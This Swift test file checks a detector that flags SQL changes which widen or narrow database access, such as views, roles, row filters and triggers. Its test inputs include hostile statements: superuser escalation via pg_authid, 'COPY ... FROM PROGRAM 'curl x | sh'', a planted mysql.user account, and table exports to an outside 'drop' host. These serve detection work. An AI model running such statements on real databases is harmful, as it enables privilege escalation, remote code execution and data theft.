import Detection
import Detectors
import Testing

/// Access that changes by other statements than `GRANT`, and everyday statements beside them.
@Suite struct SQLIndirectTests {
  private static let cases: [ExpectedReading] = [
    edited(
      "CREATE VIEW v AS SELECT a FROM t WHERE tenant = current_user;",
      "CREATE VIEW v AS SELECT a FROM t;",
      .widened,
      "iam.sql-row-security",
      "changes what view v shows"
    ),
    edited(
      "CREATE VIEW v AS SELECT a FROM t;\nGRANT SELECT ON v TO app;",
      "CREATE VIEW v AS SELECT * FROM t;\nGRANT SELECT ON v TO app;",
      .widened,
      "iam.sql-row-security",
      "changes what view v shows"
    ),
    // Nobody is granted it here, and it asks nobody who reads it.
    edited(
      "CREATE VIEW v AS SELECT a FROM t WHERE b > 1;",
      "CREATE VIEW v AS SELECT a, b FROM t;",
      .equal,
      nil,
      ""
    ),
    edited(
      "CREATE VIEW v WITH (security_invoker = true) AS SELECT a FROM t;",
      "CREATE VIEW v AS SELECT a FROM t;",
      .widened,
      "iam.sql-definer",
      "view v"
    ),
    changed(.widened, "iam.sql-definer", "owner's", "ALTER VIEW v SET (security_invoker = off);"),
    changed(.narrowed, "iam.sql-definer", "caller's", "ALTER VIEW v SET (security_invoker);"),
    changed(.incomparable, "iam.sql-role", "NAME", "RENAME USER 'a'@'localhost' TO 'a'@'%';"),
    edited(
      "CREATE ROLE a VALID UNTIL '2024-01-01';",
      "CREATE ROLE a VALID UNTIL 'infinity';",
      .widened,
      "iam.sql-role",
      "gives UNLIMITED VALIDITY"
    ),
    edited(
      "CREATE USER a HOST LOCAL;",
      "CREATE USER a HOST ANY;",
      .widened,
      "iam.sql-role",
      "gives LOGIN FROM ANY HOST"
    ),
    changed(.widened, "iam.sql-role", "WITHOUT TLS", "ALTER USER 'a'@'%' REQUIRE NONE;"),
    changed(.narrowed, "iam.sql-role", "WITHOUT TLS", "ALTER USER 'a'@'%' REQUIRE SSL;"),
    edited(
      "GRANT a TO r WITH INHERIT FALSE;",
      "GRANT a TO r WITH INHERIT TRUE;",
      .widened,
      "iam.sql-member",
      "makes r a member of a"
    ),
    edited("GRANT a TO r;", "GRANT a TO r WITH SET TRUE;", .equal, nil, ""),
    changed(
      .widened,
      "iam.sql-grant",
      "grants USER MAPPING on foreign server s to PUBLIC",
      "CREATE USER MAPPING FOR PUBLIC SERVER s;"
    ),
    changed(.widened, "iam.sql-row-security", "row filter", "ALTER TABLE t DROP ROW FILTER;"),
    changed(.widened, "iam.sql-masking", "", "ALTER TABLE t ALTER COLUMN c DROP MASK;"),
    changed(.widened, "iam.sql-row-security", "policy p", "DROP ROW POLICY p ON t;"),
    changed(
      .widened,
      "iam.sql-row-security",
      "switches off trigger all on t",
      "ALTER TABLE t DISABLE TRIGGER ALL;"
    ),
    changed(
      .equal,
      nil,
      "",
      "ALTER TABLE t DISABLE TRIGGER ALL;\nALTER TABLE t ENABLE TRIGGER ALL;"
    ),
    changed(nil, nil, "pg_authid", "UPDATE pg_authid SET rolsuper = true;"),
    changed(nil, nil, "'user'", "INSERT INTO mysql.user (Host, User) VALUES ('%', 'eve');"),
    changed(.equal, nil, "", "INSERT INTO app.user (name) VALUES ('eve');"),
    changed(nil, nil, "from a program", "COPY t FROM PROGRAM 'curl x | sh';"),
    changed(.equal, nil, "", "COPY t FROM '/data/t.csv';"),
    changed(nil, nil, "GRANT", "SELECT cron.schedule('x', '* * * * *', 'GRANT ALL ON t TO eve');"),
    changed(.equal, nil, "", "SELECT cron.schedule('x', '* * * * *', 'VACUUM t');"),
    changed(.equal, nil, "", "INSERT INTO log (text) VALUES ('GRANT ALL ON t TO eve');"),
    changed(nil, nil, "enable_policy", "EXEC DBMS_RLS.ENABLE_POLICY('a', 'b', 'c', FALSE);"),
    changed(.equal, nil, "", "EXEC DBMS_STATS.GATHER_TABLE_STATS('a', 'b');"),
    changed(nil, nil, "TRUSTWORTHY", "ALTER DATABASE x SET TRUSTWORTHY ON;"),
    changed(.equal, nil, "", "ALTER DATABASE x SET RECOVERY SIMPLE;"),
    changed(nil, nil, "another schema", "ALTER TABLE secret.t SET SCHEMA public;"),
    changed(nil, nil, "another schema", "ALTER TABLE secret.t INHERIT public.p;"),
    changed(.equal, nil, "", "ALTER TABLE t ATTACH PARTITION t_2024 FOR VALUES IN (2024);"),
  ]

  @Test(arguments: cases)
  func isTold(_ expected: ExpectedReading) { checkReading(expected, by: SQLDetector()) }

  @Test(arguments: [
    "INSERT OVERWRITE DIRECTORY 's3://drop/' USING csv SELECT * FROM t;",
    "INSERT INTO x@drop SELECT * FROM t;",
    "INSERT INTO OPENROWSET('MSOLEDBSQL', 'server=drop;', 'x') SELECT * FROM t;",
    "ALTER DATABASE d ENABLE REPLICATION TO ACCOUNTS drop.x;",
    "CREATE PUBLIC DATABASE LINK l CONNECT TO a IDENTIFIED BY b USING 'drop';",
    "CREATE EXTERNAL ACCESS INTEGRATION e ALLOWED_NETWORK_RULES = (r) ENABLED = TRUE;",
  ])
  func leaves(_ text: String) {
    let reading = ExportsDetector().read(pair("1.sql", nil, text))
    #expect(reading.direction == .widened, Comment(rawValue: reading.words))
  }

  @Test(arguments: [
    "INSERT INTO t SELECT * FROM OPENROWSET('MSOLEDBSQL', 'server=ours;', 'x');",
    "INSERT OVERWRITE TABLE t SELECT * FROM s;", "ALTER DATABASE d SET x = 1;",
  ])
  func stays(_ text: String) {
    let reading = ExportsDetector().read(pair("1.sql", nil, text))
    #expect(reading.direction == .equal, Comment(rawValue: reading.words))
  }
}
